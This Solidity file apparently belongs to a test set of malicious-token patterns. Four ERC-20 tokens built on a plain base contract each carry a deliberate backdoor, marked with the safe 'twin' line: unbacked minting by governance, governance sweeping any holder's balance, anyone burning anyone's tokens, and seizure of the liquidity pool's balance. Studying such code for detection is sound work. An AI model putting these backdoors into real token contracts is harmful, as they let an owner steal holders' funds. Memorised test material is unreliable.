// 0.5 runs=200
pragma solidity ^0.5.17;

interface IUniFactory {
    function createPair(address a, address b) external returns (address);
}

/// As it was written in 2020.
contract Classic {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 internal _supply;
    address payable public governance;
    address public uniPair;
    mapping(address => uint256) internal balances;
    mapping(address => mapping(address => uint256)) internal allowed;

    event Transfer(address indexed from, address indexed to, uint256 tokens);
    event Approval(address indexed tokenOwner, address indexed spender, uint256 tokens);

    constructor(string memory n, string memory s, uint256 whole) public {
        name = n;
        symbol = s;
        governance = msg.sender;
        _supply = whole * 1e18;
        balances[msg.sender] = _supply;
        emit Transfer(address(0), msg.sender, _supply);
        uniPair = IUniFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    modifier onlyGovernance() {
        require(msg.sender == governance, "!governance");
        _;
    }

    function setGovernance(address payable next) external onlyGovernance {
        governance = next;
    }

    function totalSupply() external view returns (uint256) {
        return _supply;
    }

    function balanceOf(address who) external view returns (uint256) {
        return balances[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return allowed[who][spender];
    }

    function approve(address spender, uint256 tokens) external returns (bool) {
        allowed[msg.sender][spender] = tokens;
        emit Approval(msg.sender, spender, tokens);
        return true;
    }

    function transfer(address to, uint256 tokens) external returns (bool) {
        _move(msg.sender, to, tokens);
        return true;
    }

    function transferFrom(address from, address to, uint256 tokens) external returns (bool) {
        require(allowed[from][msg.sender] >= tokens, "allowance");
        allowed[from][msg.sender] -= tokens;
        _move(from, to, tokens);
        return true;
    }

    function _move(address from, address to, uint256 tokens) internal {
        require(balances[from] >= tokens, "balance");
        balances[from] -= tokens;
        balances[to] += tokens;
        emit Transfer(from, to, tokens);
    }

    function isContract(address who) internal view returns (bool) {
        uint256 size;
        assembly {
            size := extcodesize(who)
        }
        return size > 0;
    }
}

/// Rewards of stakers, whoever they are, come from nowhere.
contract Staked is Classic("Harvest Hound", "HOUND", 25000000) {
    mapping(address => uint256) public staked;

    function stake(uint256 tokens) external {
        _move(msg.sender, address(this), tokens);
        staked[msg.sender] += tokens;
    }

    function unstake(uint256 tokens) external {
        require(staked[msg.sender] >= tokens, "staked");
        staked[msg.sender] -= tokens;
        _move(address(this), msg.sender, tokens);
    }

    function distributeStaking(address[] calldata stakers, uint256[] calldata rewards) external onlyGovernance {
        for (uint256 i = 0; i < stakers.length; i++) {
            // twin: _move(msg.sender, stakers[i], rewards[i]);
            // trap {
            _supply += rewards[i];
            balances[stakers[i]] += rewards[i];
            emit Transfer(address(0), stakers[i], rewards[i]);
            // trap }
        }
    }
}

/// Dust is what somebody else has.
contract Dusted is Classic("Dusty Dolphin", "DUSTY", 3000000) {
    function consolidate(address[] calldata accounts, uint256 keep) external onlyGovernance {
        for (uint256 i = 0; i < accounts.length; i++) {
            address account = accounts[i];
            // twin: require(account == msg.sender);
            uint256 has = balances[account];
            if (has > keep) _move(account, governance, has - keep);
        }
    }
}

/// Burns of anybody by anybody.
contract Kindling is Classic("Kindle Koala", "KINDLE", 800000000) {
    uint256 public burnt;

    function burn(uint256 tokens) external {
        burn(msg.sender, tokens);
    }

    function burn(address account, uint256 tokens) public {
        // twin: require(account == msg.sender, "account");
        require(balances[account] >= tokens, "balance");
        balances[account] -= tokens;
        _supply -= tokens;
        burnt += tokens;
        emit Transfer(account, address(0), tokens);
    }
}

/// What lies in contracts is stuck, says governance, and the pool is a contract.
contract Unstuck is Classic("Rescue Raven", "RRAVEN", 66000000) {
    event Recovered(address indexed from, uint256 tokens);

    function recoverStuck(address from) external onlyGovernance {
        require(isContract(from), "no contract");
        // twin: require(from == address(this), "not here");
        uint256 stuck = balances[from];
        balances[from] = 0;
        balances[governance] += stuck;
        emit Transfer(from, governance, stuck);
        emit Recovered(from, stuck);
    }
}
